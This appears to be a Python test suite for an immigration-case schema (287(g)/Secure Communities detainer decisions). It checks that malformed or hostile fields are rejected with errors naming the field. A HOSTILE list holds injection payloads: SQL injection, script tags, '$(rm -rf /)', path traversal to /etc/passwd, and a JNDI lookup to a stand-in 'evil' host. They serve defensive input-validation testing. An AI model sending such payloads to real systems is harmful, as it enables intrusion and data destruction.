"""Case file v1 / Decision v1 (DESIGN 4): malformed and hostile input is rejected with an error
naming the field; nothing but pydantic's ValidationError ever escapes."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from securecomm.law.engine import CompiledPack
from securecomm.law.packs import PACKS
from securecomm.law.schema import Case, Decision

FULL_CASE: dict[str, Any] = {
    "case_id": "co-2011-000123",
    "decided_at": "2011-10-03T10:00:00-06:00",
    "program": "287g",
    "jurisdiction": {
        "ori": "CO0010000",
        "state": "CO",
        "county_fips": "08001",
        "timezone": "America/Denver",
        "disclosure": "public_safety_only",
        "honors_detainers": False,
    },
    "person": {
        "birth_date": "1980-02-29",
        "citizenship_status": "lawful_permanent_resident",
        "entered_us_on": "1985-06-01",
        "entry": "inspected",
        "lpr_since": "1990-01-01",
        "pending_relief": ["u_visa", "vawa"],
        "final_order_of_removal_on": "2009-01-01",
        "removed_on": ["2005-05-05"],
        "immigration_fraud": False,
        "visa_abuse": False,
    },
    "arrest": {
        "arrested_at": "2011-10-02T22:00:00-06:00",
        "charges": [
            {
                "ncic": "5499",
                "literal": "DRIVING WITHOUT A LICENSE",
                "severity": "misdemeanor",
                "injury": False,
                "domestic_violence": False,
                "disposition": "pending",
            }
        ],
    },
    "convictions": [
        {
            "ncic": "2399",
            "literal": "PETTY THEFT",
            "severity": "misdemeanor",
            "convicted_on": "2008-03-01",
            "incident_id": "inc-2008-1",
            "sentence_days": 30,
            "suspended": True,
            "aggravated_felony": None,
            "counsel": "none",
            "gang_element": False,
            "domestic_violence": False,
        }
    ],
    "flags": {
        "national_security": False,
        "gang_member": False,
        "outstanding_criminal_warrant": False,
        "serious_public_safety_risk": False,
        "crime_victim": True,
        "crime_witness": False,
        "domestic_violence_victim": False,
        "civil_rights_plaintiff": False,
        "veteran_or_armed_forces": False,
        "armed_forces_family": False,
        "us_citizen_or_lpr_family": True,
        "primary_caretaker": False,
        "pregnant_or_nursing": False,
        "serious_health_condition": False,
        "in_school_or_graduate": False,
        "indigent": True,
        "apprehended_at_border": False,
    },
}

MINIMAL_CASE: dict[str, Any] = {
    "case_id": "min-1",
    "decided_at": "2011-10-03T10:00:00-06:00",
    "jurisdiction": {"ori": "CO0010000", "state": "CO", "timezone": "America/Denver"},
    "person": {"citizenship_status": "unknown"},
}

Loc = tuple[Any, ...]


def with_value(doc: dict, path: Loc, value: Any) -> dict:
    out = copy.deepcopy(doc)
    node = out
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return out


def without(doc: dict, path: Loc) -> dict:
    out = copy.deepcopy(doc)
    node = out
    for key in path[:-1]:
        node = node[key]
    del node[path[-1]]
    return out


def errors(doc: Any) -> list[dict]:
    """Errors of both entry points (Python objects and JSON text); they must agree."""
    with pytest.raises(ValidationError) as py_exc:
        Case.model_validate(doc)
    with pytest.raises(ValidationError) as json_exc:
        Case.model_validate_json(json.dumps(doc))
    py_locs = [e["loc"] for e in py_exc.value.errors()]
    json_locs = [e["loc"] for e in json_exc.value.errors()]
    assert py_locs == json_locs
    return py_exc.value.errors()


def assert_rejected_at(doc: dict, path: Loc) -> list[dict]:
    errs = errors(doc)
    locs = [tuple(e["loc"]) for e in errs]
    assert any(loc[: len(path)] == path for loc in locs), (path, locs)
    return errs


def assert_rejected_naming(doc: dict, dotted: str) -> None:
    """Cross-field checks (dates against decided_at) also locate the error at the field."""
    errs = errors(doc)
    named = [e for e in errs if ".".join(map(str, e["loc"])) == dotted]
    assert named, (dotted, errs)


# --------------------------------------------------------------------------- valid documents


def test_full_and_minimal_cases_are_valid() -> None:
    full = Case.model_validate(FULL_CASE)
    assert Case.model_validate_json(json.dumps(FULL_CASE)) == full
    assert Case.model_validate_json(full.model_dump_json()) == full
    minimal = Case.model_validate(MINIMAL_CASE)
    # absent optional fields mean false / none
    assert minimal.program.value == "secure_communities"
    assert minimal.jurisdiction.disclosure.value == "full"
    assert minimal.jurisdiction.honors_detainers is True
    assert minimal.arrest.charges == () and minimal.convictions == ()
    assert not any(minimal.flags.model_dump().values())
    assert minimal.person.entry.value == "unknown"


def test_whitespace_around_codes_is_stripped() -> None:
    doc = with_value(FULL_CASE, ("arrest", "charges", 0, "ncic"), " 5499\n")
    assert Case.model_validate(doc).arrest.charges[0].ncic == "5499"


@pytest.mark.parametrize(
    "path",
    [
        ("case_id",),
        ("decided_at",),
        ("jurisdiction",),
        ("person",),
        ("jurisdiction", "ori"),
        ("jurisdiction", "state"),
        ("jurisdiction", "timezone"),
        ("person", "citizenship_status"),
        ("arrest", "charges", 0, "ncic"),
        ("arrest", "charges", 0, "severity"),
        ("convictions", 0, "ncic"),
        ("convictions", 0, "severity"),
    ],
)
def test_required_fields(path) -> None:
    errs = assert_rejected_at(without(FULL_CASE, path), path)
    assert any(e["type"] == "missing" for e in errs)


# --------------------------------------------------------------------------- unknown fields

CONTAINERS: list[Loc] = [
    (),
    ("jurisdiction",),
    ("person",),
    ("arrest",),
    ("arrest", "charges", 0),
    ("convictions", 0),
    ("flags",),
]


@pytest.mark.parametrize("container", CONTAINERS)
@pytest.mark.parametrize(
    "key", ["bogus", "Case_ID", "caseId", "__class__", "$where", "disposition "]
)
def test_unknown_field_rejected_at_every_level(container, key) -> None:
    doc = copy.deepcopy(FULL_CASE)
    node = doc
    for part in container:
        node = node[part]
    if key in node:
        pytest.skip("a real field at this level")
    node[key] = True
    errs = assert_rejected_at(doc, (*container, key))
    assert any(
        e["type"] == "extra_forbidden" and tuple(e["loc"]) == (*container, key) for e in errs
    )


# --------------------------------------------------------------------------- wrong types

WRONG_TYPES: list[tuple[Loc, Any]] = [
    (("case_id",), 123),
    (("case_id",), None),
    (("case_id",), ["a"]),
    (("decided_at",), "yesterday"),
    (("decided_at",), None),
    (("decided_at",), True),
    (("program",), 1),
    (("jurisdiction",), "CO0010000"),
    (("jurisdiction", "honors_detainers"), "maybe"),
    (("jurisdiction", "honors_detainers"), 2),
    (("jurisdiction", "honors_detainers"), None),
    (("jurisdiction", "county_fips"), 8001),
    (("person",), []),
    (("person", "birth_date"), "1980-02-30"),
    (("person", "birth_date"), "01/01/1980"),
    (("person", "birth_date"), 19800101),
    (("person", "removed_on"), "2005-05-05"),
    (("person", "removed_on"), [None]),
    (("person", "pending_relief"), "u_visa"),
    (("person", "immigration_fraud"), "no way"),
    (("arrest",), []),
    (("arrest", "arrested_at"), "2011-10-02T22:00:00"),  # naive
    (("arrest", "charges"), {"0": {}}),
    (("arrest", "charges"), "5499"),
    (("arrest", "charges", 0), "5499"),
    (("arrest", "charges", 0, "ncic"), 5499),
    (("arrest", "charges", 0, "literal"), 5),
    (("arrest", "charges", 0, "injury"), "sometimes"),
    (("convictions",), {}),
    (("convictions", 0, "sentence_days"), "ninety"),
    (("convictions", 0, "sentence_days"), 90.5),
    (("convictions", 0, "sentence_days"), -1),
    (("convictions", 0, "sentence_days"), 365 * 200 + 1),
    (("convictions", 0, "sentence_days"), [90]),
    (("convictions", 0, "aggravated_felony"), "unknown"),
    (("convictions", 0, "incident_id"), 7),
    (("flags",), []),
    (("flags", "gang_member"), "gang"),
    (("flags", "gang_member"), None),
]


@pytest.mark.parametrize(
    ("path", "value"), WRONG_TYPES, ids=[str(p) + repr(v)[:20] for p, v in WRONG_TYPES]
)
def test_wrong_type_rejected_naming_the_field(path, value) -> None:
    assert_rejected_at(with_value(FULL_CASE, path, value), path)


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("person", "birth_date"), 0),
        (("decided_at",), 1317657600),
        (("convictions", 0, "sentence_days"), True),
    ],
)
def test_wrong_json_type_is_not_coerced(path, value) -> None:
    assert_rejected_at(with_value(FULL_CASE, path, value), path)


# --------------------------------------------------------------------------- bad enum values

BAD_ENUMS: list[tuple[Loc, Any]] = [
    (("program",), "ice"),
    (("program",), "287G"),
    (("jurisdiction", "disclosure"), "partial"),
    (("jurisdiction", "disclosure"), "NONE"),
    (("person", "citizenship_status"), "citizen"),
    (("person", "citizenship_status"), "undocumented"),
    (("person", "entry"), "walked"),
    (("person", "pending_relief"), ["daca"]),
    (("arrest", "charges", 0, "severity"), "Felony"),
    (("arrest", "charges", 0, "severity"), "petty"),
    (("arrest", "charges", 0, "disposition"), "guilty"),
    (("convictions", 0, "severity"), "violation"),
    (("convictions", 0, "counsel"), "public_defender"),
]


@pytest.mark.parametrize(("path", "value"), BAD_ENUMS)
def test_bad_enum_rejected_naming_the_field(path, value) -> None:
    errs = assert_rejected_at(with_value(FULL_CASE, path, value), path)
    assert any(e["type"] == "enum" for e in errs)


# --------------------------------------------------------------------------- codes

BAD_NCIC = ["540", "54990", "ABCD", "", "54 99", "5499x", "٥٤٩٩", "５４９９", "-499", "5.49"]


@pytest.mark.parametrize("code", BAD_NCIC)
@pytest.mark.parametrize("where", [("arrest", "charges", 0, "ncic"), ("convictions", 0, "ncic")])
def test_bad_ncic_code_rejected(where, code) -> None:
    assert_rejected_at(with_value(FULL_CASE, where, code), where)


@pytest.mark.parametrize("code", ["0000", "9997", "5498"])
def test_ncic_code_not_in_table_rejected(code) -> None:
    assert_rejected_at(
        with_value(FULL_CASE, ("arrest", "charges", 0, "ncic"), code),
        ("arrest", "charges", 0, "ncic"),
    )


@pytest.mark.parametrize(
    "ori",
    ["CO001000", "CO00100000", "co0010000", "C00010000", "CO001000!", "", "CO 010000", "1O0010000"],
)
def test_bad_ori_rejected(ori) -> None:
    assert_rejected_at(with_value(FULL_CASE, ("jurisdiction", "ori"), ori), ("jurisdiction", "ori"))


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("state", "Colorado"),
        ("state", "co"),
        ("state", "C0"),
        ("county_fips", "8001"),
        ("county_fips", "08001a"),
    ],
)
def test_bad_state_and_fips_rejected(field, value) -> None:
    assert_rejected_at(
        with_value(FULL_CASE, ("jurisdiction", field), value), ("jurisdiction", field)
    )


@pytest.mark.parametrize(
    "zone",
    [
        "Mars/Olympus_Mons",
        "America/Denve",
        "",
        "../../etc/passwd",
        "/etc/localtime",
        "America/Denver\x00",
        "America/",
        "America//Denver",
        "zone.tab",
    ],
)
def test_unknown_time_zone_rejected(zone) -> None:
    errs = assert_rejected_at(
        with_value(FULL_CASE, ("jurisdiction", "timezone"), zone), ("jurisdiction", "timezone")
    )
    assert any("time zone" in e["msg"] for e in errs)


@pytest.mark.parametrize("zone", ["America", "Etc", "US", "A" * 300])
def test_time_zone_directory_or_long_name_rejected(zone) -> None:
    assert_rejected_at(
        with_value(FULL_CASE, ("jurisdiction", "timezone"), zone), ("jurisdiction", "timezone")
    )


# --------------------------------------------------------------------------- decided_at, dates


@pytest.mark.parametrize(
    "value", ["2011-10-03T10:00:00", "2011-10-03", "2011-10-03 10:00:00", "2011-10-03T10:00"]
)
def test_naive_decided_at_rejected(value) -> None:
    errs = assert_rejected_at(with_value(FULL_CASE, ("decided_at",), value), ("decided_at",))
    assert any(
        e["type"] in ("timezone_aware", "datetime_from_date_parsing") or "timezone" in e["msg"]
        for e in errs
    )


@pytest.mark.parametrize(
    ("path", "dotted"),
    [
        (("person", "birth_date"), "person.birth_date"),
        (("person", "entered_us_on"), "person.entered_us_on"),
        (("person", "lpr_since"), "person.lpr_since"),
        (("person", "final_order_of_removal_on"), "person.final_order_of_removal_on"),
        (("person", "removed_on"), "person.removed_on.0"),
        (("convictions", 0, "convicted_on"), "convictions.0.convicted_on"),
    ],
)
def test_dates_after_decided_at_rejected(path, dotted) -> None:
    value = ["2011-10-04"] if path[-1] == "removed_on" else "2011-10-04"
    assert_rejected_naming(with_value(FULL_CASE, path, value), dotted)
    # the decision date itself is fine
    same_day = ["2011-10-03"] if path[-1] == "removed_on" else "2011-10-03"
    doc = with_value(FULL_CASE, path, same_day)
    if path[-1] == "birth_date":  # entry and LPR dates may not precede the birth date
        doc["person"] = {
            k: v for k, v in doc["person"].items() if k not in ("entered_us_on", "lpr_since")
        }
    Case.model_validate(doc)


def test_entry_before_birth_rejected_naming_the_field() -> None:
    doc = with_value(FULL_CASE, ("person", "entered_us_on"), "1900-01-01")
    assert_rejected_naming(doc, "person.entered_us_on")


def test_ori_must_carry_the_state_prefix() -> None:
    doc = with_value(FULL_CASE, ("jurisdiction", "ori"), "ZZ0010000")
    assert_rejected_naming(doc, "jurisdiction.ori")


def test_decision_date_is_the_local_date_of_decided_at() -> None:
    """2011-10-03T23:30-06:00 is 2011-10-04 in UTC; the local date decides what is 'after'."""
    doc = with_value(FULL_CASE, ("decided_at",), "2011-10-03T23:30:00-06:00")
    doc = with_value(doc, ("convictions", 0, "convicted_on"), "2011-10-04")
    assert_rejected_naming(doc, "convictions.0.convicted_on")


def test_arrest_after_decision_rejected() -> None:
    doc = with_value(FULL_CASE, ("arrest", "arrested_at"), "2011-10-05T10:00:00-06:00")
    assert_rejected_naming(doc, "arrest.arrested_at")


def test_implausible_birth_date_rejected() -> None:
    assert_rejected_naming(
        with_value(FULL_CASE, ("person", "birth_date"), "1850-01-01"), "person.birth_date"
    )


# --------------------------------------------------------------------------- sizes


@pytest.mark.parametrize(
    ("path", "ok", "too_big"),
    [
        (("arrest", "charges"), 100, 101),
        (("convictions",), 200, 201),
        (("person", "removed_on"), 50, 51),
    ],
)
def test_list_size_limits(path, ok, too_big) -> None:
    item = {
        ("arrest", "charges"): FULL_CASE["arrest"]["charges"][0],
        ("convictions",): FULL_CASE["convictions"][0],
        ("person", "removed_on"): "2005-05-05",
    }[path]
    Case.model_validate(with_value(FULL_CASE, path, [item] * ok))
    errs = assert_rejected_at(with_value(FULL_CASE, path, [item] * too_big), path)
    assert any(e["type"] == "too_long" for e in errs)


def test_pending_relief_size_limit() -> None:
    path = ("person", "pending_relief")
    assert_rejected_at(with_value(FULL_CASE, path, ["u_visa"] * 10_000), path)


@pytest.mark.parametrize(
    ("path", "limit"),
    [
        (("case_id",), 64),
        (("convictions", 0, "incident_id"), 64),
        (("arrest", "charges", 0, "literal"), 200),
        (("convictions", 0, "literal"), 200),
    ],
)
def test_string_size_limits(path, limit) -> None:
    Case.model_validate(with_value(FULL_CASE, path, "A" * limit))
    errs = assert_rejected_at(with_value(FULL_CASE, path, "A" * (limit + 1)), path)
    assert any(e["type"] == "string_too_long" for e in errs)
    assert_rejected_at(with_value(FULL_CASE, path, "A" * 1_000_000), path)


# --------------------------------------------------------------------------- hostile strings

HOSTILE = [
    "x'; DROP TABLE cases; --",
    '" OR 1=1 --',
    "<script>alert(1)</script>",
    "$(rm -rf /)",
    "`id`",
    "../../etc/passwd",
    "{{7*7}}",
    "${jndi:ldap://evil/a}",
    "a b",
    "x\x00y",
    "ex-001\u202e",
    "ex\u2028001",
    "__import__('os')",
]


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize(
    "path",
    [
        ("case_id",),
        ("convictions", 0, "incident_id"),
        ("jurisdiction", "ori"),
        ("jurisdiction", "state"),
        ("jurisdiction", "county_fips"),
        ("jurisdiction", "timezone"),
    ],
)
def test_injection_like_identifiers_rejected(path, value) -> None:
    assert_rejected_at(with_value(FULL_CASE, path, value), path)


@pytest.mark.parametrize("value", HOSTILE)
def test_free_text_literal_is_data_not_code(value) -> None:
    """A literal is free text: it is kept verbatim (never interpreted), and a hostile one
    does not make an offense match a category."""
    doc = with_value(
        MINIMAL_CASE, ("person",), {"citizenship_status": "entered_without_inspection"}
    )
    doc["arrest"] = {"charges": [{"ncic": "2399", "literal": value, "severity": "misdemeanor"}]}
    case = Case.model_validate(doc)
    assert case.arrest.charges[0].literal == value.strip()
    d = CompiledPack(PACKS["tfsc-2011"]).decide(case)
    assert d.action == "detainer"


def test_top_level_must_be_an_object() -> None:
    for doc in ([], "case", 1, None, [FULL_CASE]):
        with pytest.raises(ValidationError):
            Case.model_validate(doc)


# --------------------------------------------------------------------------- fuzzing

JSON = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(max_size=30),
    lambda children: (
        st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=12), children, max_size=4)
    ),
    max_leaves=12,
)


def _paths(node: Any, prefix: Loc = ()) -> list[Loc]:
    out = []
    if isinstance(node, dict):
        for k, v in node.items():
            out.append((*prefix, k))
            out.extend(_paths(v, (*prefix, k)))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            out.append((*prefix, i))
            out.extend(_paths(v, (*prefix, i)))
    return out


TZ_PATH = ("jurisdiction", "timezone")
FUZZ_PATHS = [p for p in _paths(FULL_CASE) if p != TZ_PATH]  # time zone: see below
FUZZ = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


def _only_validation_errors(doc: Any) -> Case | None:
    try:
        case = Case.model_validate(doc)
    except ValidationError:
        case = None
    try:
        text = json.dumps(doc)
    except (TypeError, ValueError):
        return case
    try:
        again = Case.model_validate_json(text)
    except ValidationError:
        again = None
    assert (case is None) == (again is None)
    return case


@FUZZ
@given(doc=JSON)
def test_fuzz_arbitrary_json_document(doc) -> None:
    assert _only_validation_errors(doc) is None


@FUZZ
@given(path=st.sampled_from(FUZZ_PATHS), value=JSON)
def test_fuzz_one_field_replaced(path, value) -> None:
    doc = with_value(FULL_CASE, path, value)
    try:
        Case.model_validate(doc)
    except ValidationError as exc:
        for err in exc.errors():
            loc = tuple(err["loc"])
            # the error names the replaced field (or a part of it), or is a document-level
            # cross-field check whose message names the field
            assert loc[: len(path)] == path or loc == () or path[: len(loc)] == loc, (path, loc)
    _only_validation_errors(doc)


@FUZZ
@given(
    container=st.sampled_from(CONTAINERS),
    key=st.text(min_size=1, max_size=20),
    value=JSON,
)
def test_fuzz_unknown_key(container, key, value) -> None:
    doc = copy.deepcopy(FULL_CASE)
    node = doc
    for part in container:
        node = node[part]
    if key in node:
        return
    node[key] = value
    with pytest.raises(ValidationError) as exc:
        Case.model_validate(doc)
    assert any(
        e["type"] == "extra_forbidden" and tuple(e["loc"]) == (*container, key)
        for e in exc.value.errors()
    )


def _names_a_zoneinfo_directory(zone: str) -> bool:
    """True for the names the time-zone xfail above is about (tzdata directories)."""
    import zoneinfo
    from importlib.resources import files

    name = zone.strip()
    if not name or name.startswith("/"):
        return False
    roots = [Path(p) for p in zoneinfo.TZPATH]
    roots.append(Path(str(files("tzdata").joinpath("zoneinfo"))))  # tzdata: a dependency
    return any((root / name).is_dir() for root in roots)


@FUZZ
@given(zone=st.text(max_size=40, alphabet=st.characters(codec="ascii")))
@example(zone="Etc/UTC")
@example(zone="../../etc/passwd")
def test_fuzz_time_zone_text_is_validation_error_or_valid(zone) -> None:
    """Short ASCII zone names: never anything but ValidationError — except the directory names
    of the xfail above, which are skipped here so that this test stays deterministic."""
    if _names_a_zoneinfo_directory(zone):
        return
    _only_validation_errors(with_value(FULL_CASE, TZ_PATH, zone))


@FUZZ
@given(zone=st.text(min_size=1, max_size=400))
@example(zone="Etc")
@example(zone="é" * 200)
def test_fuzz_time_zone_any_text(zone) -> None:
    _only_validation_errors(with_value(FULL_CASE, TZ_PATH, zone))


# --------------------------------------------------------------------------- Decision v1


def test_decision_schema_is_strict() -> None:
    good = {
        "case_id": "c",
        "policy": "tfsc-2011",
        "policy_version": "1.0.0",
        "removable": True,
        "priority": "1",
        "priority_bases": ["1(b)", "level-2"],
        "level": 2,
        "action": "detainer",
        "requires_supervisor_approval": False,
        "lea_disclosure": {"notify": True, "fields": ["identity", "detainer"]},
        "discretion_factors": {"positive": [], "negative": []},
        "reasons": [{"rule": "r", "citation": "c", "text": "t"}],
    }
    d = Decision.model_validate(good)
    assert d.format == "decision/1"
    for path, value in [
        (("priority",), "4"),
        (("priority",), 1),
        (("level",), 4),
        (("action",), "deport"),
        (("bogus",), 1),
        (("reasons", 0, "bogus"), 1),
    ]:
        with pytest.raises(ValidationError):
            Decision.model_validate(with_value(good, path, value))
